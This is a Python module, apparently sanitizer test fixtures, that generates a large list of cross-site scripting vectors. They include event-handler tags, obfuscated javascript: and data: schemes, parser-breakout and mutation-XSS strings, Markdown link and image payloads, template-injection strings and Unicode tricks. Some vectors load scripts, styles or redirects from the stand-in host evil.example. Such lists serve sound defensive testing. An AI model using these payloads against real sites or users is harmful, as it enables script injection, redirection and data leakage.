"""Texts that want to become more than text: markup, scripts, addresses, hidden letters."""

from __future__ import annotations

CALL = "window.pwned=1"
_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "iframe src=x",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
    "vbscript:", "data:text/html,", "data:text/html;base64,", "file:///", "blob:", "//evil.example/",
    "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "/r/x/f/001/approve?", "\\\\evil\\",
)  # fmt: skip
_ODD = (
    "<script>{call}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{call}</script>",
    "<script\x00>{call}</script>", "</textarea><script>{call}</script>", "</title><script>{call}</script>",
    "</pre></code><script>{call}</script>", "--><script>{call}</script>", "]]><script>{call}</script>",
    "'\"><script>{call}</script>", "\" autofocus onfocus=\"{call}", "' onmouseover='{call}",
    "<style>@import '//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<form action=//evil.example><button>x",
    "<a href=//evil.example ping=//evil.example/p>x</a>", "<div style=background:url(//evil.example/x)>x</div>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>", "<svg><use href=//evil.example/x.svg#x>",
    "<svg><foreignObject><script>{call}</script>", "<template><script>{call}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={call}>\">", "<img srcset='//evil.example/x 1x'>",
    "![x](https://evil.example/x.png)", "![x][r]\n\n[r]: https://evil.example/x.png", "<https://evil.example/\"onmouseover={call}>",
    "[x](<javascript:{call}>)", "[x](https://ok.example \"' onclick='{call}\")", "[a]: javascript:{call}\n\n[a]",
    "```\n</code></pre><script>{call}</script>\n```", "```\"><script>{call}</script>\nx\n```", "~~~<img src=x onerror={call}>\nx\n~~~",
    "`<script>{call}</script>`", "| a |\n|---|\n| <img src=x onerror={call}> |", "# <script>{call}</script>",
    "{{{{ 7*7 }}}}{{% raise %}}", "${{{call}}}", "<%= {call} %>", "&lt;script&gt;{call}&lt;/script&gt;",
    "\x1b]8;;javascript:{call}\x07click\x1b]8;;\x07", "\x1b[31m<script>{call}</script>", "\u202e<script>{call}</script>",
    "\u200b<\u200bscript>{call}</script>", "\ufeff<script>{call}</script>", "\u2028<script>{call}</script>",
    "<scr\u0131pt>{call}</script>", "\uff1cscript\uff1e{call}", "<xss id=x tabindex=1 onfocus={call}></xss>#x",
)  # fmt: skip


def vectors() -> tuple[str, ...]:
    handlers = [f"<{tag} {name}={CALL}>" for tag in _TAGS for name in _HANDLERS]
    links = [f"[x]({scheme}{CALL})" for scheme in _SCHEMES]
    anchors = [f'<a href="{scheme}{CALL}">x</a>' for scheme in _SCHEMES]
    frames = [f'<iframe src="{scheme}{CALL}"></iframe>' for scheme in _SCHEMES]
    return (*handlers, *links, *anchors, *frames, *(one.format(call=CALL) for one in _ODD))


VECTORS = vectors()
